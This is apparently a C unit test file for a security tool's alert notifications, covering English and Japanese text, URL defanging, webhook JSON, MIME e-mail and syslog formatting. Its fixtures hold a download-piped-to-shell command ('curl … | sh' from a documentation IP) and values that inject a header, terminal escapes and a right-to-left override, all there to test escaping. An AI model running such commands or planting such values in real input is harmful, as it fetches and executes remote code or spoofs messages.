/* Notification messages: English and Japanese text of an alert and of a test, escaping of
 * hostile values, the webhook JSON, the e-mail (RFC 5322 with an RFC 2047 subject and a base64
 * UTF-8 body) and the syslog line (RFC 5424 PRI, structured-data escaping, RFC 6587 framing). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <openssl/evp.h>

#include "notify_render.h"

#define NOW_MS 1700000000123LL /* Tue, 14 Nov 2023 22:13:20.123 UTC */

static const char alert_json[] =
    "{\"@timestamp\": \"2026-11-21T10:00:00.000000000Z\","
    " \"event\": {\"id\": \"0123456789abcdef0123456789abcdef\", \"kind\": \"alert\"},"
    " \"rule\": {\"id\": \"7d1f\", \"name\": \"Download piped to a shell\", \"severity\": "
    "\"high\"},"
    " \"risk_score\": 73,"
    " \"threat\": {\"tactic\": {\"name\": [\"Execution\", \"Command and Control\"]},"
    "  \"technique\": {\"id\": [\"T1059.004\", \"T1105\"]}},"
    " \"host\": {\"name\": \"web1\"}, \"user\": {\"name\": \"alice\"},"
    " \"process\": {\"pid\": 101, \"executable\": \"/usr/bin/curl\","
    "  \"command_line\": \"curl -s http://203.0.113.9/x.sh | sh\"},"
    " \"mamori\": {\"advice\": \"Find what the script did.\"}, \"status\": \"open\"}";

struct out {
	struct dynbuf title, text;
	json_t *alert;
	struct notify_msg m;
};

static void render(struct out *o, const char *lang, const char *json, enum notify_kind kind)
{
	memset(o, 0, sizeof(*o));
	dynbuf_init(&o->title, NOTIFY_TEXT_MAX);
	dynbuf_init(&o->text, NOTIFY_TEXT_MAX);
	o->alert = json ? json_loads(json, 0, NULL) : NULL;
	if (json)
		assert_non_null(o->alert);
	o->m = (struct notify_msg){.kind = kind,
				   .route = "jp-it",
				   .language = lang,
				   .dest_kind = "email",
				   .group = "jp",
				   .alert = o->alert,
				   .delivery_id = 42,
				   .attempt = 1,
				   .now_ms = NOW_MS,
				   .hostname = "mamori-1"};
	assert_int_equal(notify_render_text(&o->m, &o->title, &o->text), 0);
}

static void release(struct out *o)
{
	dynbuf_release(&o->title);
	dynbuf_release(&o->text);
	json_decref(o->alert);
}

static void has(const char *hay, const char *needle)
{
	if (!strstr(hay, needle))
		fail_msg("\"%s\" not found in:\n%s", needle, hay);
}

static void test_english(void **state)
{
	struct out o;

	(void)state;
	render(&o, "en", alert_json, NOTIFY_KIND_ALERT);
	assert_string_equal(o.title.data, "[Mamori] HIGH: Download piped to a shell on web1");
	has(o.text.data, "Mamori raised an alert on host web1.\n\n");
	has(o.text.data, "Rule: Download piped to a shell\n");
	has(o.text.data, "Severity: high (risk score 73)\n");
	has(o.text.data, "Host: web1 (group jp)\n");
	has(o.text.data, "Process: /usr/bin/curl (PID 101)\n");
	/* Defanged: no mail client makes the attacker's URL clickable. */
	has(o.text.data, "Command line: curl -s hxxp://203.0.113.9/x.sh | sh\n");
	has(o.text.data, "User: alice\n");
	has(o.text.data, "ATT&CK: T1059.004, T1105 (Execution, Command and Control)\n");
	has(o.text.data, "Event time (UTC): 2026-11-21T10:00:00.000000000Z\n");
	has(o.text.data, "Alert ID: 0123456789abcdef0123456789abcdef\n");
	has(o.text.data, "\nAdvice: Find what the script did.\n");
	has(o.text.data, "mamori alerts show 0123456789abcdef0123456789abcdef");
	assert_null(strstr(o.text.data, "http://"));
	release(&o);
	/* Anything but ja is English. */
	render(&o, NULL, alert_json, NOTIFY_KIND_ALERT);
	has(o.text.data, "Severity: high");
	release(&o);
}

static void test_japanese(void **state)
{
	struct out o;

	(void)state;
	render(&o, "ja", alert_json, NOTIFY_KIND_ALERT);
	assert_string_equal(o.title.data,
			    "[Mamori] 重大度 高: web1 で「Download piped to a shell」を検知");
	has(o.text.data, "ホスト web1 で Mamori がアラートを検知しました。\n");
	has(o.text.data, "ルール：Download piped to a shell\n");
	has(o.text.data, "重大度：高（リスクスコア 73）\n");
	has(o.text.data, "ホスト：web1（グループ jp）\n");
	has(o.text.data, "プロセス：/usr/bin/curl（PID 101）\n");
	has(o.text.data, "コマンドライン：curl -s hxxp://203.0.113.9/x.sh | sh\n");
	has(o.text.data, "ユーザー：alice\n");
	has(o.text.data, "ATT&CK：T1059.004, T1105（実行、コマンド&コントロール）\n");
	has(o.text.data, "発生日時（UTC）：2026-11-21T10:00:00");
	has(o.text.data, "推奨対応：Find what the script did.\n");
	has(o.text.data, "詳細の確認: mamori alerts show 0123456789abcdef");
	has(o.text.data, "通知ルート jp-it から送信されました。");
	release(&o);
}

static void test_tests_and_hostile_values(void **state)
{
	struct out o;

	(void)state;
	render(&o, "en", NULL, NOTIFY_KIND_TEST);
	assert_string_equal(o.title.data, "[Mamori] Test notification (route jp-it)");
	has(o.text.data, "sent through notification route jp-it (email)");
	release(&o);
	render(&o, "ja", NULL, NOTIFY_KIND_TEST);
	assert_string_equal(o.title.data, "[Mamori] テスト通知（ルート jp-it）");
	has(o.text.data, "Mamori からのテスト通知です。通知ルート jp-it（メール）から送信");
	has(o.text.data, "対応は不要です。");
	release(&o);
	/* Newlines, escapes and a right-to-left override in attacker-chosen values. */
	render(&o, "en",
	       "{\"rule\": {\"name\": \"r\\nSubject: x\", \"severity\": \"low\"}, \"host\": "
	       "{\"name\": \"h\"}, \"process\": {\"command_line\": \"a\\u001b[31mb\\u202ecod.exe "
	       "HTTPS://e.example\"}}",
	       NOTIFY_KIND_ALERT);
	assert_string_equal(o.title.data, "[Mamori] LOW: r\\nSubject: x on h");
	has(o.text.data, "Command line: a\\x1b[31mb\\u202ecod.exe hxxps://e.example\n");
	release(&o);
}

static void test_webhook(void **state)
{
	struct out o;
	char *body;
	json_t *j;

	(void)state;
	render(&o, "en", alert_json, NOTIFY_KIND_ALERT);
	o.m.route = "head-office";
	body = notify_render_webhook(&o.m, o.title.data, o.text.data);
	j = json_loads(body, 0, NULL);
	assert_non_null(j);
	assert_string_equal(json_string_value(json_object_get(j, "type")), "mamori.alert");
	assert_string_equal(json_string_value(json_object_get(j, "route")), "head-office");
	assert_string_equal(json_string_value(json_object_get(j, "language")), "en");
	assert_string_equal(json_string_value(json_object_get(j, "title")), o.title.data);
	assert_string_equal(json_string_value(json_object_get(j, "text")), o.text.data);
	assert_true(json_equal(json_object_get(j, "alert"), o.alert));
	assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "delivery"), "id")),
			 42);
	json_decref(j);
	free(body);
	release(&o);
	render(&o, "ja", NULL, NOTIFY_KIND_TEST);
	body = notify_render_webhook(&o.m, o.title.data, o.text.data);
	j = json_loads(body, 0, NULL);
	assert_string_equal(json_string_value(json_object_get(j, "type")), "mamori.test");
	assert_string_equal(json_string_value(json_object_get(j, "language")), "ja");
	assert_true(json_is_null(json_object_get(j, "alert")));
	json_decref(j);
	free(body);
	release(&o);
}

/* Decodes the encoded words of a folded RFC 2047 header value and checks the line lengths. */
static void decode_2047(const char *v, size_t first_used, char *out, size_t size)
{
	size_t used = first_used, k = 0;
	const char *p = v;

	while (*p) {
		const char *end = strstr(p, "?=");
		unsigned char raw[128];
		int n;

		assert_true(!strncmp(p, "=?UTF-8?B?", 10));
		assert_non_null(end);
		assert_true(used + (size_t)(end + 2 - p) <= 76);
		n = EVP_DecodeBlock(raw, (const unsigned char *)p + 10, (int)(end - p - 10));
		assert_true(n > 0);
		while (n > 0 && end[-1] == '=') { /* padding decodes as zero bytes */
			n--;
			end--;
		}
		end = strstr(p, "?=");
		/* No word starts inside a character. */
		assert_true((raw[0] & 0xc0) != 0x80);
		assert_true(k + (size_t)n < size);
		memcpy(out + k, raw, (size_t)n);
		k += (size_t)n;
		p = end + 2;
		if (*p) {
			assert_true(!strncmp(p, "\r\n ", 3));
			p += 3;
			used = 1;
		}
	}
	out[k] = 0;
}

static void test_rfc2047(void **state)
{
	static const char subject[] =
	    "[Mamori] 重大度 高: web1 で「Download piped to a shell」を検知";
	struct dynbuf b;
	char back[512];

	(void)state;
	dynbuf_init(&b, 4096);
	assert_int_equal(notify_rfc2047(&b, "[Mamori] HIGH: x on y", 9), 0);
	assert_string_equal(b.data, "[Mamori] HIGH: x on y");
	dynbuf_reset(&b);
	assert_int_equal(notify_rfc2047(&b, subject, 9), 0);
	assert_non_null(strstr(b.data, "\r\n "));
	decode_2047(b.data, 9, back, sizeof(back));
	assert_string_equal(back, subject);
	dynbuf_reset(&b);
	/* Long ASCII is encoded too, rather than over-long. */
	memset(back, 'a', 100);
	back[100] = 0;
	assert_int_equal(notify_rfc2047(&b, back, 9), 0);
	{
		char again[512];

		decode_2047(b.data, 9, again, sizeof(again));
		assert_string_equal(again, back);
	}
	dynbuf_release(&b);
}

static void test_email(void **state)
{
	json_t *email = json_loads("{\"from\": \"mamori@jp.example\", \"to\": [\"it@jp.example\", "
				   "\"soc@jp.example\"]}",
				   0, NULL);
	struct dynbuf msg, body;
	struct out o;
	const char *p, *hdr_end;
	unsigned char raw[8192];
	char date[64];

	(void)state;
	notify_rfc5322_date(NOW_MS, date, sizeof(date));
	assert_string_equal(date, "Tue, 14 Nov 2023 22:13:20 +0000");
	render(&o, "ja", alert_json, NOTIFY_KIND_ALERT);
	dynbuf_init(&msg, NOTIFY_WIRE_MAX);
	assert_int_equal(notify_render_email(&o.m, email, o.title.data, o.text.data,
					     "mamori.42.1.ab@mamori-1", &msg),
			 0);
	has(msg.data, "Date: Tue, 14 Nov 2023 22:13:20 +0000\r\n");
	has(msg.data, "From: Mamori <mamori@jp.example>\r\n");
	has(msg.data, "To: it@jp.example,\r\n soc@jp.example\r\n");
	has(msg.data, "Subject: =?UTF-8?B?");
	has(msg.data, "Message-ID: <mamori.42.1.ab@mamori-1>\r\n");
	has(msg.data, "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n"
		      "Content-Transfer-Encoding: base64\r\n");
	has(msg.data, "X-Mamori-Alert-Id: 0123456789abcdef0123456789abcdef\r\n");
	/* Every line ends in CRLF and stays within 78 columns. */
	for (p = msg.data; *p;) {
		const char *nl = strchr(p, '\n');

		assert_non_null(nl);
		assert_true(nl > p && nl[-1] == '\r');
		assert_true(nl - p <= 78);
		p = nl + 1;
	}
	/* The subject decodes back to the title; the body to the text with CRLF. */
	{
		char subj[512], *s = strstr(msg.data, "Subject: ") + 9,
				*e = strstr(s, "\r\nMessage");
		char *v = strndup(s, (size_t)(e - s));

		decode_2047(v, 9, subj, sizeof(subj));
		assert_string_equal(subj, o.title.data);
		free(v);
	}
	hdr_end = strstr(msg.data, "\r\n\r\n") + 4;
	dynbuf_init(&body, NOTIFY_WIRE_MAX);
	for (p = hdr_end; *p;) {
		const char *nl = strstr(p, "\r\n");
		int n = EVP_DecodeBlock(raw, (const unsigned char *)p, (int)(nl - p));

		assert_true(n > 0);
		if (!strncmp(nl - 2, "==", 2))
			n -= 2;
		else if (nl[-1] == '=')
			n -= 1;
		dynbuf_add(&body, raw, (size_t)n);
		p = nl + 2;
	}
	has(body.data, "重大度：高（リスクスコア 73）\r\n");
	assert_null(strstr(body.data, "）\n"));
	dynbuf_release(&body);
	dynbuf_release(&msg);
	json_decref(email);
	release(&o);
}

static void test_syslog(void **state)
{
	json_t *udp = json_loads("{\"transport\": \"udp\", \"facility\": \"local4\"}", 0, NULL);
	json_t *tcp = json_loads("{\"transport\": \"tcp\", \"facility\": \"auth\"}", 0, NULL);
	struct dynbuf b;
	struct out o;
	char *sp;

	(void)state;
	assert_int_equal(notify_syslog_pri(20, 3), 163); /* local4, high: err */
	assert_int_equal(notify_syslog_pri(16, 4), 130); /* local0, critical: crit */
	assert_int_equal(notify_syslog_pri(1, 0), 14);	 /* user, informational */
	assert_int_equal(notify_syslog_pri(4, 2), 36);	 /* auth, medium: warning */
	dynbuf_init(&b, 4096);
	assert_int_equal(notify_sd_escape(&b, "a\"b\\c]d\ne", 100), 0);
	assert_string_equal(b.data, "a\\\"b\\\\c\\]d e");
	dynbuf_reset(&b);
	assert_int_equal(notify_sd_escape(&b, "日本語", 7), 0);
	assert_string_equal(b.data, "日本"); /* cut on a character boundary */
	dynbuf_release(&b);

	render(&o, "en", alert_json, NOTIFY_KIND_ALERT);
	dynbuf_init(&b, NOTIFY_SYSLOG_TCP_MAX + 16);
	assert_int_equal(notify_render_syslog(&o.m, udp, o.title.data, &b), 0);
	has(b.data, "<163>1 2023-11-14T22:13:20.123Z mamori-1 mamori - ALERT [mamori@32473 "
		    "route=\"jp-it\" id=\"0123456789abcdef0123456789abcdef\" rule=\"Download "
		    "piped to a shell\" rule_id=\"7d1f\" severity=\"high\" risk_score=\"73\" "
		    "host=\"web1\" group=\"jp\" technique=\"T1059.004,T1105\" "
		    "tactic=\"Execution,Command and Control\" process=\"/usr/bin/curl\" "
		    "pid=\"101\" user=\"alice\" command_line=\"curl -s http://203.0.113.9/x.sh | "
		    "sh\"] [Mamori] HIGH: Download piped to a shell on web1");
	assert_null(strchr(b.data, '\n'));
	dynbuf_reset(&b);
	/* TCP: octet counting; a Japanese MSG starts with the BOM. */
	o.m.language = "ja";
	assert_int_equal(notify_render_syslog(&o.m, tcp, "重大度 高", &b), 0);
	sp = strchr(b.data, ' ');
	assert_int_equal(strtoul(b.data, NULL, 10), strlen(sp + 1));
	assert_true(!strncmp(sp + 1, "<35>1 ", 6)); /* auth (4) * 8 + err (3) */
	has(b.data, "] \xef\xbb\xbf重大度 高");
	dynbuf_reset(&b);
	release(&o);
	/* A huge command line still fits one UDP datagram, with the structure intact. */
	{
		char *big = malloc(20000), *json = malloc(24000);

		memset(big, 'x', 19999);
		big[19999] = 0;
		snprintf(json, 24000,
			 "{\"rule\": {\"name\": \"%.3000s\", \"severity\": \"critical\"}, "
			 "\"process\": {\"command_line\": \"%s\"}}",
			 big, big);
		render(&o, "en", json, NOTIFY_KIND_ALERT);
		assert_int_equal(notify_render_syslog(&o.m, udp, o.title.data, &b), 0);
		assert_true(b.len <= NOTIFY_SYSLOG_UDP_MAX);
		/* The title was cut with an ellipsis: UTF-8, so the MSG has a BOM. */
		has(b.data, "\"] \xef\xbb\xbf[Mamori] CRITICAL: xxx");
		release(&o);
		free(big);
		free(json);
	}
	/* A test message. */
	dynbuf_reset(&b);
	render(&o, "en", NULL, NOTIFY_KIND_TEST);
	assert_int_equal(notify_render_syslog(&o.m, udp, o.title.data, &b), 0);
	has(b.data, "<166>1 2023-11-14T22:13:20.123Z mamori-1 mamori - TEST [mamori@32473 "
		    "route=\"jp-it\" test=\"true\"] [Mamori] Test notification (route jp-it)");
	release(&o);
	dynbuf_release(&b);
	json_decref(udp);
	json_decref(tcp);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_english),
	    cmocka_unit_test(test_japanese),
	    cmocka_unit_test(test_tests_and_hostile_values),
	    cmocka_unit_test(test_webhook),
	    cmocka_unit_test(test_rfc2047),
	    cmocka_unit_test(test_email),
	    cmocka_unit_test(test_syslog),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
